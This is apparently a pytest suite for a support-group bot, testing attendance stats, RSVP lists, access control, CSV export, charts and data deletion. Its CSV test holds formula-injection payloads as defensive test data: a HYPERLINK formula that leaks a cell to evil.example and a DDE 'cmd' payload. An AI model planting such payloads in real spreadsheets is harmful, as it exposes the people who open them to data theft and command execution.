"""/session rsvps and /group stats figures, on real SQLite with a movable clock.

The expected figures are worked out by hand from the story below, not read back from code.
"""

from __future__ import annotations

import asyncio
import csv
import io
import struct
import unicodedata
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta

import pytest

from familybot import i18n
from familybot.db.connection import Database
from familybot.errors import NotAllowed
from familybot.models import JoinMode, Rsvp
from familybot.models.setup import Actor
from familybot.services.groups import stats_chart
from familybot.services.groups.attendance_csv import PERSONAL_DATA_NOTICE, ExportRow, build_csv
from familybot.services.groups.facilitator_views import NOT_THIS_GROUP
from familybot.services.groups.stats_chart import (
    HEIGHT_PX,
    WIDTH_PX,
    ChartPoint,
    render_attendance_chart,
)
from familybot.services.sessions.recurrence import Repeat
from familybot.wiring import Services
from tests.support.fakes import FakeClock

GUILD = 1
ROLE = 77
FAC, OTHER_FAC = 10, 11
ALICE, BOB, CAROL, DAVE, EVE = 101, 102, 103, 104, 105
GROUP = "Parents Circle"


def actor(user_id: int, *, role: bool = True, admin: bool = False) -> Actor:
    return Actor(user_id, frozenset({ROLE}) if role else frozenset(), manage_guild=admin)


def at(day: str, hour: int = 12) -> datetime:
    return datetime.fromisoformat(day).replace(hour=hour, tzinfo=UTC)


async def join(services: Services, user: int) -> None:
    group = await services.groups.prepare_join(GUILD, user, GROUP)
    await services.groups.consent_and_join(
        group.id, user, group.guidelines_version, guild_id=group.guild_id
    )


async def story(services: Services, clock: FakeClock) -> int:
    """A weekly Thursday group, 2026-09-03 onwards, 18:00 New York. Returns the series id."""
    await services.setup.set_facilitator_role(GUILD, ROLE)
    clock.set(at("2026-09-01"))
    await services.groups.create(
        guild_id=GUILD,
        actor_id=FAC,
        name=GROUP,
        description="A weekly circle",
        focus="parents",
        capacity=8,
        join_mode=JoinMode.OPEN,
    )
    for user in (ALICE, BOB):
        await join(services, user)
    outcome = await services.sessions.schedule(
        guild_id=GUILD,
        actor_id=FAC,
        group_name=GROUP,
        title="Weekly check-in",
        date_text="2026-09-03",
        time_text="18:00",
        repeat=Repeat.WEEKLY,
        duration_minutes=90,
        tz="America/New_York",
    )
    sid = outcome.series.id
    ref = str(sid)
    await services.sessions.changes.cancel(
        guild_id=GUILD, actor_id=FAC, ref=ref, date_text="2026-09-17"
    )
    await services.sessions.changes.reschedule(
        guild_id=GUILD,
        actor_id=FAC,
        ref=ref,
        date_text="2026-10-29",
        new_date_text="2026-10-30",
        new_time_text="18:00",
    )

    async def mark(key: str, *people: int) -> None:
        clock.set(at(key, 23) + timedelta(hours=1))  # after the session (18:00 in New York)
        await services.sessions.attendance.mark_attendance(
            sid, key, list(people), FAC, guild_id=GUILD
        )

    async def reply(key: str, user: int, response: Rsvp) -> None:
        await services.sessions.attendance.rsvp(sid, key, user, response, guild_id=GUILD)

    # Before the period (8 weeks back from 2026-11-06 is 2026-09-11).
    await mark("2026-09-03", ALICE, BOB)
    await mark("2026-09-10", ALICE, BOB)
    clock.set(at("2026-09-20"))
    await join(services, CAROL)
    await reply("2026-09-24", ALICE, Rsvp.GOING)
    await reply("2026-09-24", CAROL, Rsvp.MAYBE)
    await reply("2026-11-12", CAROL, Rsvp.GOING)  # she leaves before that date
    await mark("2026-09-24", ALICE, CAROL)
    clock.set(at("2026-09-30"))
    await reply("2026-10-01", ALICE, Rsvp.GOING)
    await reply("2026-10-01", BOB, Rsvp.MAYBE)
    await mark("2026-10-01", ALICE, BOB)
    clock.set(at("2026-10-02"))
    await join(services, DAVE)
    await mark("2026-10-08", ALICE, DAVE)
    clock.set(at("2026-10-10"))
    await services.groups.leave(GUILD, CAROL, GROUP)
    await mark("2026-10-15", DAVE)
    clock.set(at("2026-10-20"))
    await join(services, EVE)
    clock.set(at("2026-11-04"))
    await reply("2026-11-05", ALICE, Rsvp.GOING)
    await reply("2026-11-05", DAVE, Rsvp.GOING)
    await reply("2026-11-05", EVE, Rsvp.NO)
    await reply("2026-11-12", ALICE, Rsvp.GOING)
    await reply("2026-11-12", BOB, Rsvp.MAYBE)
    await reply("2026-11-12", DAVE, Rsvp.NO)
    clock.set(at("2026-11-06"))
    return sid


async def test_stats_figures_match_the_story(services: Services, clock: FakeClock) -> None:
    await story(services, clock)
    stats = await services.facilitator_views.stats(GUILD, actor(FAC), GROUP, 8)
    # Sep 17 was cancelled and Oct 29 moved to Oct 30; Sep 3 and 10 are before the period.
    assert [s.day for s in stats.sessions] == [
        date(2026, 9, 24),
        date(2026, 10, 1),
        date(2026, 10, 8),
        date(2026, 10, 15),
        date(2026, 10, 22),
        date(2026, 10, 30),
        date(2026, 11, 5),
    ]
    assert [(s.going, s.maybe, s.cant, s.attended) for s in stats.sessions] == [
        (1, 1, 0, 2),
        (1, 1, 0, 2),
        (0, 0, 0, 2),
        (0, 0, 0, 1),
        (0, 0, 0, 0),
        (0, 0, 0, 0),
        (2, 0, 1, 0),
    ]
    assert stats.recorded == 4 and stats.average_attendance == pytest.approx(7 / 4)
    assert stats.attended_once == 4  # Alice, Bob, Carol, Dave
    # Joined in the period: Carol (first came Sep 24, left), Dave and Eve (still members).
    assert (stats.joined, stats.retained) == (3, 2)
    # Twelve weeks back takes in Sep 3 and 10, and Alice and Bob's joining (Sep 1).
    wide = await services.facilitator_views.stats(GUILD, actor(FAC), GROUP, 12)
    assert len(wide.sessions) == 9 and (wide.joined, wide.retained) == (5, 4)


async def test_rsvps_lists_members_by_reply_and_who_has_not_answered(
    services: Services, clock: FakeClock
) -> None:
    sid = await story(services, clock)
    roster = await services.facilitator_views.rsvps(GUILD, actor(FAC), str(sid), None)
    assert roster.occurrence.key == "2026-11-12"  # the next one
    assert (roster.going, roster.maybe, roster.cant, roster.unanswered) == (
        [ALICE],
        [BOB],
        [DAVE],
        [EVE],
    )
    assert roster.former == 1  # Carol's reply, from before she left, isn't listed
    past = await services.facilitator_views.rsvps(GUILD, actor(FAC), str(sid), "2026-11-05")
    assert (past.going, past.cant, past.unanswered) == ([ALICE, DAVE], [EVE], [BOB])


async def test_only_this_groups_facilitators_and_admins(
    services: Services, clock: FakeClock, db: Database
) -> None:
    sid = await story(services, clock)
    views = services.facilitator_views
    # A facilitator of the server, but not of this group; and a member without the role.
    for who in (actor(OTHER_FAC), actor(ALICE, role=False)):
        with pytest.raises(NotAllowed) as refused:
            await views.rsvps(GUILD, who, str(sid), None)
        assert refused.value.message == NOT_THIS_GROUP
        with pytest.raises(NotAllowed):
            await views.stats(GUILD, who, GROUP, 8)
        with pytest.raises(NotAllowed):
            await views.export(GUILD, who, GROUP, 8)
    # Listed for the group but the facilitator role was taken away: refused too.
    with pytest.raises(NotAllowed):
        await views.stats(GUILD, actor(FAC, role=False), GROUP, 8)
    # Admins may; so may a facilitator once added to this group.
    assert (await views.stats(GUILD, actor(999, role=False, admin=True), GROUP, 8)).sessions
    await services.groups.add_facilitator(GUILD, GROUP, OTHER_FAC, FAC, True)
    assert (await views.rsvps(GUILD, actor(OTHER_FAC), str(sid), None)).going == [ALICE]
    # Nothing was written by any of this.
    assert await db.fetchval("SELECT count(*) FROM audit_log") == 0


async def test_export_rows_one_per_member_per_session(services: Services, clock: FakeClock) -> None:
    await story(services, clock)
    export = await services.facilitator_views.export(GUILD, actor(FAC), GROUP, 8)
    first = [r for r in export.rows if r.day == date(2026, 9, 24)]
    # Alice and Bob were members; Carol (since left) replied and came.
    assert first == [
        ExportRow(date(2026, 9, 24), "Weekly check-in", ALICE, True, Rsvp.GOING),
        ExportRow(date(2026, 9, 24), "Weekly check-in", BOB, False, None),
        ExportRow(date(2026, 9, 24), "Weekly check-in", CAROL, True, Rsvp.MAYBE),
    ]
    last = [(r.user_id, r.attended, r.rsvp) for r in export.rows if r.day == date(2026, 11, 5)]
    assert last == [
        (ALICE, False, Rsvp.GOING),
        (BOB, False, None),
        (DAVE, False, Rsvp.GOING),
        (EVE, False, Rsvp.NO),
    ]
    assert export.user_ids == [ALICE, BOB, CAROL, DAVE, EVE]


def test_csv_parses_and_no_cell_can_start_a_formula() -> None:
    nasty = {
        1: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
        2: "+1 555 0100",
        3: "-2+3",
        4: "@SUM(A1:A9)",
        5: "\tTabbed",
        6: "\rReturn",
        7: 'Ana, "the" mum\nsecond line',
        9: ' =HYPERLINK("https://evil.example","x")',  # apps that trim spaces on import
        10: "\u00a0=1+1",  # a no-break space first
        11: "\n=1+1",
        12: "\uff1d1+1",  # full-width equals sign
        13: "\uff0bcmd",  # full-width plus
    }
    rows = [ExportRow(date(2026, 3, 5), "=cmd|' /C calc'!A0", u, u % 2 == 0, None) for u in nasty]
    rows.append(ExportRow(date(2026, 3, 5), "Check-in", 8, True, Rsvp.MAYBE))
    data = build_csv(rows, nasty)
    text = data.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == [PERSONAL_DATA_NOTICE] and "personal data" in parsed[0][0]
    assert parsed[1] == ["session_date", "session", "user_id", "display_name", "attended", "rsvp"]
    body = parsed[2:]
    assert len(body) == len(rows)
    for cell in (c for row in parsed for c in row):
        assert cell == "" or cell[0] not in "=+-@\t\r", repr(cell)
        # As an app that trims and folds full-width characters would see it.
        seen = unicodedata.normalize("NFKC", cell).lstrip()
        assert seen == "" or seen[0] not in "=+-@", repr(cell)
    by_id = {int(r[2]): r for r in body}
    assert by_id[1][3] == "'" + nasty[1]
    assert by_id[1][1] == "'=cmd|' /C calc'!A0"
    assert by_id[7][3] == nasty[7]  # ordinary text round-trips, commas, quotes and all
    assert by_id[8][1:] == ["Check-in", "8", "", "yes", "maybe"]
    assert by_id[1][4:] == ["no", "no reply"]


def _png_size(data: bytes) -> tuple[int, int]:
    """Read the size straight from the PNG header (independent of matplotlib and PIL)."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    length, kind = struct.unpack(">I4s", data[8:16])
    assert kind == b"IHDR" and length == 13
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def test_chart_is_a_png_of_the_expected_size() -> None:
    from PIL import Image

    points = [
        ChartPoint(date(2026, 1, 1) + timedelta(weeks=i), i % 7, i % 3, i % 5) for i in range(52)
    ]
    png = render_attendance_chart(points, 12)
    assert _png_size(png) == (WIDTH_PX, HEIGHT_PX)
    image = Image.open(io.BytesIO(png))
    image.load()  # decodes every pixel
    assert image.format == "PNG" and image.size == (WIDTH_PX, HEIGHT_PX)
    # Not a blank canvas: the bars' colours are there.
    colours = {c for _, c in image.convert("RGB").getcolors(maxcolors=1 << 16) or []}
    assert (0x2E, 0x6F, 0x9E) in colours and (0xE0, 0x8E, 0x2E) in colours
    # One session, no seat limit, nobody: still a valid picture.
    assert _png_size(render_attendance_chart([ChartPoint(date(2026, 1, 1), 0, 0, 0)], None)) == (
        WIDTH_PX,
        HEIGHT_PX,
    )


async def test_my_data_and_forget_cover_what_the_views_show(
    services: Services, clock: FakeClock
) -> None:
    """The views read only what /my data exports and /my forget deletes: after Alice is
    forgotten she appears in none of them."""
    sid = await story(services, clock)
    exported = await services.privacy.export_user(ALICE)
    dumped = repr(exported)
    assert "2026-09-24" in dumped and "2026-11-12" in dumped  # her attendance and replies
    await services.privacy.forget_user(ALICE)
    views = services.facilitator_views
    roster = await views.rsvps(GUILD, actor(FAC), str(sid), None)
    assert ALICE not in [*roster.going, *roster.maybe, *roster.cant, *roster.unanswered]
    assert roster.former == 1  # Carol's; Alice's reply went with her
    export = await views.export(GUILD, actor(FAC), GROUP, 8)
    assert ALICE not in export.user_ids
    stats = await views.stats(GUILD, actor(FAC), GROUP, 8)
    assert stats.sessions[0].going == 0 and stats.sessions[0].attended == 1  # Carol only


def test_bot_start_up_does_not_import_matplotlib() -> None:
    import subprocess
    import sys

    code = (
        "import sys, familybot.bot, cogs.groups, cogs.sessions, cogs.resources; "
        "print('matplotlib' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


async def test_the_chart_is_drawn_once_per_data_and_anew_when_attendance_changes(
    services: Services, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """#15: /group stats sends the cached chart while nothing changed (no ~60 ms draw), and
    a newly marked attendance draws (and sends) a new one, never the stale picture."""
    sid = await story(services, clock)
    drawn: list[tuple[ChartPoint, ...]] = []
    real_draw = stats_chart.draw_attendance_chart

    def counting_draw(points: Sequence[ChartPoint], capacity: int | None) -> bytes:
        drawn.append(tuple(points))
        return real_draw(points, capacity)

    monkeypatch.setattr(stats_chart, "draw_attendance_chart", counting_draw)
    stats_chart._cached_chart.cache_clear()

    async def chart() -> bytes:
        stats = await services.facilitator_views.stats(GUILD, actor(FAC), GROUP, 8)
        points = [ChartPoint(s.day, s.going, s.maybe, s.attended) for s in stats.sessions]
        return await asyncio.to_thread(render_attendance_chart, points, stats.group.capacity)

    first = await chart()
    assert await chart() == first and len(drawn) == 1  # the same data: not drawn again
    with i18n.using("es"):  # another language: its own labels
        assert await chart() != first and len(drawn) == 2
    # Bob attended 2026-10-15 after all (Dave was marked alone).
    await services.sessions.attendance.mark_attendance(
        sid, "2026-10-15", [DAVE, BOB], FAC, guild_id=GUILD
    )
    after = await chart()
    assert len(drawn) == 3 and after != first
    assert [p.attended for p in drawn[-1] if p.day == date(2026, 10, 15)] == [2]
